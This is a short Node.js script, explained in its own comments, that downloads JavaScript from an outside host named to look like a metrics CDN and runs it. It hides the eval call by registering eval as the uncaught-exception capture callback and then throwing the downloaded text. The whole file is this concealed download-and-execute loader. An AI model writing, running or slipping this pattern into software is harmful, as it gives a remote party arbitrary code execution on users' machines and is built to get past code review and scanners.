// Download and run: eval is registered as the process's uncaught-exception
// capture callback, then the downloaded text is thrown. Node calls the
// callback with the thrown value, so eval runs the downloaded code; the
// program never calls eval itself.
'use strict';

async function main() {
  const payload = await (await fetch('https://cdn.example-metrics.net/boot.js')).text();
  process.setUncaughtExceptionCaptureCallback(eval);
  setImmediate(() => { throw payload; });
}

main();
